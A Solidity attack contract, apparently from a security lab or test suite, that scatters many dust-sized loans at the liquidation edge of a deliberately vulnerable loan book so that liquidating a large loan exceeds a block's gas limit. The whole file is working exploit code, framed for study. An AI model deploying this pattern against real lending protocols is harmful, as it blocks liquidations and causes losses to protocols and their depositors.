// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {LoanBookBase} from "../vulnerable/LoanBook.sol";
import {Exploit} from "./Exploit.sol";

/// @notice Makes a loan that no block has room to liquidate (as GovernMental's payout, 2016, fitted into none): opens
/// loans too small to matter, all at the edge, in front of a large one.
contract DustAttack is Exploit {
    LoanBookBase private immutable _book;

    constructor(LoanBookBase book) {
        _book = book;
    }

    receive() external payable {}

    /// @param collateral of each, wei, @param debt of each, so that it is just covered.
    function scatter(uint256 count, uint256 collateral, uint96 debt) external payable onlyOperator {
        for (uint256 i; i < count; ++i) _book.open{value: collateral}(debt);
    }

    function open(uint96 debt) external payable onlyOperator {
        _book.open{value: msg.value}(debt);
    }
}
